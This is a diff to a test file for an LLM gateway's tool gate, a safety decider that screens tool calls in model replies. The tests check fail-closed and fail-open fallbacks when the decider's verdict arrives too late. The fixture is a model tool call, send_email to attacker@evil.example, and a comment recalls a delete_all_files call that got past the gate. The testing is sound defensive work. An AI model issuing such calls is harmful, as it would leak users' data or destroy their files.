@@ -56,11 +56,13 @@ TEXT_STREAM = _events([*PLAIN, _chunk({}, "stop")])
 SSE = {"content-type": "text/event-stream"}
 
 
-def gateway_for(p_unsafe: float, *, log=None, decision_timeout_ms: int = 300, action: str = "block"):
+def gateway_for(p_unsafe: float, *, log=None, decision_timeout_ms: int = 300, action: str = "block",
+                fallback: str | None = None):
+    gate = {"threshold": 0.5, "action": action, **({"fallback": fallback} if fallback else {})}
     config = {
         "decision_timeout_ms": decision_timeout_ms,
         "upstreams": [{"name": "u", "url": "http://u.test/v1"}],
-        "routes": [{"model": "m", "tool_gate": {"threshold": 0.5, "action": action}}],
+        "routes": [{"model": "m", "tool_gate": gate}],
         **({"log": {"path": str(log)}} if log else {}),
     }
     decider = FixedDecider({"tool_gate:0": p_unsafe})
@@ -263,6 +265,56 @@ def test_kept_back_calls_whose_judgement_runs_past_the_deadline_are_not_sent_whe
     got = run(scenario())
     assert isinstance(got, Delivered) and ATTACKER not in got.body
     assert json.loads(got.body[CALL_AT:].decode().removeprefix("data: "))["error"]["code"] == "decisions_unavailable"
+
+
+CALL = {"id": "call_1", "type": "function",
+        "function": {"name": "send_email", "arguments": '{"to": "attacker@evil.example"}'}}
+WHOLE_CALL_REPLY = {"id": "c", "object": "chat.completion", "created": 1, "model": "stub", "choices": [
+    {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [CALL]},
+     "finish_reason": "tool_calls"}]}
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+@pytest.mark.parametrize("fallback", ["closed", "open"])
+def test_calls_whose_judgement_runs_past_the_deadline_take_the_gates_fallback_when_failing_open(
+    streamed: bool, fallback: str, tmp_path
+) -> None:
+    # an outside tester's held reply, its tool gate past `--deadline-ms`, reached the client with its
+    # delete_all_files call under `fallback: closed`, labelled `x-jevserve-decisions: none` and logged with no
+    # tool-gate verdict: as the HTTP gateway does when its decider has no answer in time, each call now takes the
+    # gate's fallback (closed: removed; open: sent, marked as a fallback)
+    log = tmp_path / "decisions.jsonl"
+    gateway, decider = gateway_for(0.1, decision_timeout_ms=5000, fallback=fallback, log=log)
+    settings = StreamSettings(deadline_s=0.2, failure="open")
+    raw = CALL_STREAM if streamed else body_of(WHOLE_CALL_REPLY)
+    headers = SSE if streamed else {"content-type": "application/json"}
+
+    async def scenario():
+        async with serving(GatewayDecisions(gateway), settings) as channel:
+            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", "FULL_DUPLEX_STREAMED")
+            await stream.request(body_of({**HI, "stream": streamed}))
+            decider.delay_s = 2.0  # the tool gate's question, asked at the reply's end, is slow
+            got = await stream.respond(200, headers, pieces(raw, 64))
+            await stream.finish()
+            return got
+
+    got = run(scenario())
+    assert isinstance(got, Delivered)
+    if fallback == "closed":
+        assert ATTACKER not in got.body
+    else:
+        assert ATTACKER in got.body
+    if not streamed:  # the whole reply's headers are its own: they say the gate fell back
+        shown = got.headers.get("x-jevserve-decisions", "")
+        assert "tool_gate=" in shown and "!fallback" in shown, shown
+    for _ in range(50):  # the log line is written after the stream ends
+        if log.exists() and log.read_text().strip():
+            break
+        run(asyncio.sleep(0.05))
+    (record,) = [json.loads(line) for line in log.read_text().splitlines()]
+    (verdict,) = record["tool_gate"]
+    assert verdict["action"] == ("block" if fallback == "closed" else "allow"), verdict
+    assert "took over 200 ms" in record["upstream"]["tool_gate_undecided"]
 
 
 def test_a_filter_that_sends_no_reply_body_gets_a_tool_gated_stream_refused_not_passed_unjudged() -> None:
